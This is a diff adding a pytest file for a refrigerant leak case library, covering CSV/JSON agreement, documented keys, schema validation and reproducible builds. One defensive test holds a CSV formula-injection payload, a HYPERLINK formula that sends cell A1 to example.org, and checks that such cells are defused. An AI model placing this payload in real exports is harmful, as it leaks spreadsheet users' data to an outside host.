@@ -1,0 +1,404 @@
+"""The data files: CSV and JSON tell the same, every key is documented, schemas hold the demo records."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from collections.abc import Iterable
+from copy import deepcopy
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import html5lib
+import pytest
+import yaml
+from jsonschema import Draft202012Validator, FormatChecker
+from referencing import Registry, Resource
+
+from analysis.builders import CASES, case, library, step
+from leaklore.pages import data
+from leaklore.pages.book import Book
+from leaklore.pages.render import Templates
+from leaklore.pages.site import Edition
+from leaklore.records.model import Case, Equipment
+
+TODAY = dt.date(2026, 12, 31)
+SUMMARIES = ("component", "refrigerant", "setting", "branch", "symptom")
+
+
+def loads(content: bytes) -> Any:
+    """Strict JSON in UTF-8: NaN and Infinity are none."""
+
+    def refuse(word: str) -> None:
+        raise AssertionError(f"{word} is not JSON")
+
+    return json.loads(content.decode("utf-8"), parse_constant=refuse)
+
+
+def names(fields: Iterable[tuple[str, str]]) -> set[str]:
+    """Keys of a table of the data page, some of which share a line."""
+    return {name for keys, _ in fields for name in keys.split(", ")}
+
+
+@pytest.fixture(scope="module")
+def made(demo_book: Book) -> dict[str, bytes]:
+    """All data files by path."""
+    files = data.files(demo_book)
+    assert len({f.path for f in files}) == len(files)
+    return {f.path: f.content for f in files}
+
+
+def rows_of(content: bytes) -> list[dict[str, str]]:
+    """A CSV file as a spreadsheet reads it."""
+    text = content.decode("utf-8")
+    assert text.endswith("\r\n"), "lines end as RFC 4180 wants"
+    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    assert {len(row) for row in rows} == {len(rows[0])}
+    assert len(set(rows[0])) == len(rows[0])
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_csv_and_json_tell_the_same(made: dict[str, bytes]) -> None:
+    """Every cell of every case; lists are joined by spaces, unknown is empty."""
+    cases = loads(made["data/cases.json"])["cases"]
+    assert made["data/cases.csv"].count(b"\r\n") == made["data/cases.csv"].count(b"\n") == len(cases) + 1
+    rows = rows_of(made["data/cases.csv"])
+    assert list(rows[0]) == [name for name, _ in data.CASE_FIELDS]
+    assert len(rows) == len(cases) > 100
+    for row, record in zip(rows, cases, strict=True):
+        for name, cell in row.items():
+            value = record[name]
+            if value is None:
+                assert cell == "", (record["id"], name)
+            elif isinstance(value, bool):
+                assert cell == {True: "true", False: "false"}[value]
+            elif isinstance(value, list):
+                assert cell.split() == value
+            elif isinstance(value, int | float):
+                assert float(cell) == value
+            else:
+                assert cell == value, (record["id"], name)
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_look_like_formulas_are_defused(sign: str) -> None:
+    """A spreadsheet shows them as text, in whatever column; the JSON keeps what was written."""
+    text = sign + 'HYPERLINK("http://example.org/?"&A1,"open")'
+    risky = case(1, title=text, equipment=Equipment(family=sign + "DS-A"), symptoms=(sign + "ice", "oil"))
+    book = Book(library(risky), TODAY)
+    row = rows_of(data.cases_csv(book))[0]
+    assert row["title"] == "'" + text
+    assert row["family"] == "'" + sign + "DS-A"
+    assert row["symptoms"].startswith("'" + sign)
+    assert loads(data.cases_json(book))["cases"][0]["title"] == text
+
+
+def test_ordinary_cells_are_left_alone() -> None:
+    """Quotes, commas, line breaks and a minus inside survive; negative numbers stay numbers."""
+    text = 'He said "hiss", twice\nand - well - left = early'
+    early = case(1, title=text, installed="2026-06-01")
+    row = rows_of(data.cases_csv(Book(library(early), TODAY)))[0]
+    assert row["title"] == text
+    assert float(row["age_years"]) < 0
+
+
+def test_no_cell_of_the_demo_library_begins_like_a_formula(made: dict[str, bytes]) -> None:
+    """Text cells, that is: a number may be negative."""
+    for row in rows_of(made["data/cases.csv"]):
+        for name, cell in row.items():
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)
+                assert name == "age_years"
+
+
+def test_every_file_says_its_version_and_edition(made: dict[str, bytes]) -> None:
+    """So that a reader can refuse what it does not know."""
+    parts = ("cases", "failure-modes", "techniques", "groups", "systems")
+    for name in parts:
+        whole = loads(made[f"data/{name}.json"])
+        assert whole["version"] == data.VERSION == 1
+        assert whole["edition"] == "2026-12-31"
+        assert list(whole)[:2] == ["version", "edition"]
+        assert made[f"data/{name}.json"].endswith(b"}\n")
+
+
+def test_keys_of_cases_are_those_documented(made: dict[str, bytes]) -> None:
+    """None missing, none beyond; the JSON has the search and more."""
+    extra = {"search", "readings", "also_found", "follow_up"}
+    for record in loads(made["data/cases.json"])["cases"]:
+        assert set(record) == names(data.CASE_FIELDS) | extra
+
+
+def test_keys_of_figures_are_those_documented(made: dict[str, bytes]) -> None:
+    """Failure modes, and the groups which say `key` for `mode` and `name`."""
+    modes = loads(made["data/failure-modes.json"])["modes"]
+    documented = names(data.MODE_FIELDS)
+    assert len(modes) > 10
+    for record in modes:
+        assert set(record) == documented
+    groups = loads(made["data/groups.json"])
+    assert set(groups) == {"version", "edition", *SUMMARIES}
+    for kind in SUMMARIES:
+        assert groups[kind]
+        for record in groups[kind]:
+            assert set(record) == documented - {"mode", "name"} | {"key"}
+
+
+def test_keys_of_techniques_and_systems_are_those_documented(made: dict[str, bytes]) -> None:
+    """Techniques, pairs, isolations avoided, the register."""
+    whole = loads(made["data/techniques.json"])
+    assert set(whole) == {"version", "edition", "techniques", "versus", "isolations_avoided"}
+    for record in whole["techniques"]:
+        assert set(record) == names(data.TECHNIQUE_FIELDS)
+    assert whole["versus"]
+    for record in whole["versus"]:
+        assert set(record) == names(data.VERSUS_FIELDS)
+    assert set(whole["isolations_avoided"]) == names(data.AVOIDED_FIELDS)
+    systems = loads(made["data/systems.json"])["systems"]
+    assert systems
+    for record in systems:
+        assert set(record) == names(data.SYSTEM_FIELDS)
+
+
+def test_the_data_page_documents_files_and_keys(demo_book: Book, made: dict[str, bytes]) -> None:
+    """Every key in a table, every file with a link that leads to it."""
+    files = data.files(demo_book)
+    page = data.page(demo_book, Templates(demo_book), files)
+    tree = html5lib.parse(str(page.body), namespaceHTMLElements=False)
+    told = {"".join(code.itertext()) for code in tree.iter("code")}
+    for fields in (
+        data.CASE_FIELDS,
+        data.MODE_FIELDS,
+        data.TECHNIQUE_FIELDS,
+        data.VERSUS_FIELDS,
+        data.AVOIDED_FIELDS,
+        data.SYSTEM_FIELDS,
+    ):
+        for keys, means in fields:
+            assert keys in told
+            assert means
+    hrefs = {a.get("href") for a in tree.iter("a")}
+    own = {path for path in made if path.startswith("data/")}
+    for path in own:
+        assert f"../{path}" in hrefs, f"{path} is made but not told of"
+    assert own <= set(data.WHAT)
+    assert set(data.WHAT) <= own | {"feed.xml"}
+
+
+def test_what_each_record_says_agrees_with_its_other_keys(made: dict[str, bytes]) -> None:
+    """counted, share and rate follow from the rest; nothing is negative that can't be."""
+    for r in loads(made["data/cases.json"])["cases"]:
+        assert r["counted"] == (r["proof"] in ("point", "held") and not r["withdrawn"])
+        if r["lost_kg"] is not None and r["charge_kg"]:
+            assert r["lost_share"] == pytest.approx(r["lost_kg"] / r["charge_kg"], rel=1e-9)
+        if r["lost_kg"] is not None and r["lost_over_s"]:
+            rate = r["lost_kg"] / r["lost_over_s"] * 31_557_600 * 1000
+            assert r["leak_rate_g_per_year"] == pytest.approx(rate, rel=1e-9)
+        assert r["search_minutes"] == sum(s["minutes"] for s in r["search"])
+        assert r["search_minutes"] >= (r["minutes_to_find"] or 0)
+
+
+def test_a_loss_of_nothing_is_a_rate_of_zero_and_not_unknown() -> None:
+    """The medians count it, so the file must tell it."""
+    zero = case(1, lost="0 kg", charge="2 kg", over="1 year")
+    record = loads(data.cases_json(Book(library(zero), TODAY)))["cases"][0]
+    assert record["leak_rate_g_per_year"] == 0
+    assert record["lost_share"] == 0
+    assert record["minutes_to_find"] is None
+
+
+def test_withdrawn_cases_are_marked_and_out_of_all_figures(made: dict[str, bytes]) -> None:
+    """Their records stay."""
+    gone = {r["id"] for r in loads(made["data/cases.json"])["cases"] if r["withdrawn"]}
+    assert gone
+    for name in ("failure-modes", "techniques", "groups"):
+        text = made[f"data/{name}.json"].decode()
+        assert not any(f'"{number}"' in text for number in gone)
+
+
+def test_addresses_of_cases_and_systems_are_pages(made: dict[str, bytes], demo_edition: Edition) -> None:
+    """`url` leads somewhere."""
+    urls = {page.url for page in demo_edition.pages}
+    for r in loads(made["data/cases.json"])["cases"]:
+        assert r["url"] in urls
+    for r in loads(made["data/systems.json"])["systems"]:
+        assert r["url"] in urls
+
+
+def test_each_case_has_its_record_beside_its_page(made: dict[str, bytes], demo_book: Book) -> None:
+    """Byte for byte as in the library."""
+    for one in demo_book.library.cases:
+        published = made[f"cases/{one.id}/{one.id}.yaml"]
+        assert published == (CASES / "records" / str(one.id.split("-")[1]) / f"{one.id}.yaml").read_bytes()
+
+
+def test_numbers_are_short_but_exact_to_a_billionth() -> None:
+    """A pound and a third in kg, not 17 digits of it."""
+    record = loads(data.cases_json(Book(library(case(1, lost="1.3333333 lb")), TODAY)))["cases"][0]
+    assert record["lost_kg"] == pytest.approx(1.3333333 * 0.45359237, rel=1e-11)
+    assert len(str(record["lost_kg"])) <= 14
+
+
+def test_two_builds_are_equal_byte_by_byte(demo_book: Book, made: dict[str, bytes]) -> None:
+    """Nothing depends on the hour or on the order of a set."""
+    again = {f.path: f.content for f in data.files(Book(demo_book.library, demo_book.today))}
+    assert again == made
+
+
+# Schemas
+
+
+class Plain(yaml.CSafeLoader):
+    """PyYAML without dates: JSON has none."""
+
+
+Plain.yaml_implicit_resolvers = {
+    first: [(tag, pattern) for tag, pattern in pairs if tag != "tag:yaml.org,2002:timestamp"]
+    for first, pairs in yaml.CSafeLoader.yaml_implicit_resolvers.items()
+}
+
+
+def load(file: Path) -> Any:
+    """A YAML file as JSON would hold it."""
+    return yaml.load(file.read_text("utf-8"), Plain)
+
+
+@pytest.fixture(scope="module")
+def schemas(made: dict[str, bytes]) -> dict[str, dict[str, Any]]:
+    """The published schemas by name."""
+    found = {
+        path.split("/")[-1].removesuffix(".schema.json"): loads(content)
+        for path, content in made.items()
+        if path.startswith("data/schema/")
+    }
+    assert set(found) == {"common", "case", "system", "reading", "guide", "company"}
+    return found
+
+
+def validator(schemas: dict[str, dict[str, Any]], name: str, part: str = "") -> Draft202012Validator:
+    """A plain validator of JSON Schema 2020-12 that knows nothing of our own keywords."""
+    registry: Registry[Any] = Registry().with_resources(
+        [(s["$id"], Resource.from_contents(s)) for s in schemas.values()]
+    )
+    return Draft202012Validator(
+        {"$ref": schemas[name]["$id"] + part}, registry=registry, format_checker=FormatChecker()
+    )
+
+
+def faults(checker: Draft202012Validator, instance: Any) -> list[str]:
+    """What is wrong, with its place."""
+    return [f"{e.json_path}: {e.message[:120]}" for e in checker.iter_errors(instance)]
+
+
+def test_schemas_are_json_schema_2020_12(schemas: dict[str, dict[str, Any]]) -> None:
+    """Against the meta schema; every $ref leads somewhere."""
+    for name, schema in schemas.items():
+        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+        Draft202012Validator.check_schema(schema)
+        assert validator(schemas, name).is_valid(None) in (True, False)  # resolves without error
+    ids = {s["$id"] for s in schemas.values()}
+    for schema in schemas.values():
+        for ref in (n["$ref"] for n in nodes(schema) if "$ref" in n):
+            assert ref.split("#")[0] in ids
+
+
+def nodes(node: Any) -> Iterable[dict[str, Any]]:
+    """All maps inside."""
+    if isinstance(node, dict):
+        yield node
+        for value in node.values():
+            yield from nodes(value)
+    elif isinstance(node, list):
+        for value in node:
+            yield from nodes(value)
+
+
+def test_vocabularies_are_filled_in(schemas: dict[str, dict[str, Any]], demo_book: Book) -> None:
+    """As the words of this library; branches and crews are the company's and stay open."""
+    terms = demo_book.library.vocabulary.terms
+    seen = set()
+    for schema in schemas.values():
+        for node in nodes(schema):
+            kind = node.get("x-vocabulary")
+            if isinstance(kind, str):
+                seen.add(kind)
+                if kind in ("branches", "crews"):
+                    assert "enum" not in node
+                else:
+                    assert node["enum"] == list(terms[kind])
+                    assert node["enum"], kind
+    assert {"modes", "components", "techniques", "symptoms", "refrigerants", "branches"} <= seen
+
+
+def test_filling_in_leaves_the_loaded_schema_alone(made: dict[str, bytes]) -> None:
+    """The check's own schemas have no enum, or a word of the house would be refused there."""
+    from leaklore.records import schema
+
+    assert made
+    assert not any("enum" in n and "x-vocabulary" in n for n in nodes(schema.load("case")))
+
+
+def test_every_demo_record_is_valid_by_the_published_schema(schemas: dict[str, dict[str, Any]]) -> None:
+    """Cases, register, company and reading lists, by a validator that is not ours."""
+    checker = validator(schemas, "case")
+    files = sorted((CASES / "records").glob("*/*.yaml"))
+    assert len(files) > 100
+    for file in files:
+        assert faults(checker, load(file)) == [], file.name
+    assert faults(validator(schemas, "system"), load(CASES / "systems.yaml")) == []
+    assert faults(validator(schemas, "company"), load(CASES / "company.yaml")) == []
+    for file in sorted((CASES / "reading").glob("*.yaml")):
+        assert faults(validator(schemas, "reading"), load(file)) == [], file.name
+
+
+def test_every_guide_entry_is_valid_by_the_published_schema(schemas: dict[str, dict[str, Any]]) -> None:
+    """Front matter of pages and entries of lists."""
+    guide = CASES.parent / "generator" / "leaklore" / "guide"
+    for folder, part in (("failure-modes", "failure-mode"), ("techniques", "technique")):
+        checker = validator(schemas, "guide", f"#/$defs/{part}")
+        files = sorted((guide / folder).glob("*.md"))
+        assert files
+        for file in files:
+            front = file.read_text("utf-8").split("---\n")[1]
+            assert faults(checker, yaml.load(front, Plain)) == [], file.name
+    for name, part in (("symptoms", "symptom"), ("components", "component"), ("refrigerants", "refrigerant")):
+        checker = validator(schemas, "guide", f"#/$defs/{part}")
+        for entry in load(guide / f"{name}.yaml"):
+            assert faults(checker, entry) == [], (name, entry["key"])
+
+
+@pytest.mark.parametrize(
+    ("change", "where"),
+    [
+        ({"symptoms": ["oil-fim"]}, "$.symptoms[0]"),
+        ({"cause": {"mode": "bad-luck", "component": "indoor-flare", "proof": "point"}}, "$.cause.mode"),
+        ({"reported": "2025-02-30"}, "$.reported"),
+        ({"id": "KW-2025-14"}, "$.id"),
+        ({"tittle": "A word too many"}, "$"),
+        ({"search": []}, "$.search"),
+        ({"title": 2025}, "$.title"),
+    ],
+)
+def test_the_published_schema_refuses_what_is_wrong(
+    change: dict[str, Any], where: str, schemas: dict[str, dict[str, Any]]
+) -> None:
+    """A schema that lets everything pass would pass every test above."""
+    good = load(CASES / "records" / "2025" / "KW-2025-014.yaml")
+    checker = validator(schemas, "case")
+    assert faults(checker, good) == []
+    told = faults(checker, {**deepcopy(good), **change})
+    assert [t for t in told if t.startswith(where + ":")], told
+
+
+def test_an_unpriced_library_has_nulls(tmp_path: Path) -> None:
+    """No isolation of our own, no price; no step, no yield."""
+    one = replace(case(1, step("bubbles", "flare", "pinpointed")), avoided=None)
+    whole = loads(data.techniques_json(Book(library(one), TODAY)))
+    assert whole["isolations_avoided"]["median_cost"] is None
+    assert whole["isolations_avoided"]["saved"] is None
+    unused = next(t for t in whole["techniques"] if t["technique"] == "visual")
+    assert (unused["yield"], unused["finding"], unused["used"]) == (None, False, 0)
+    assert isinstance(one, Case)
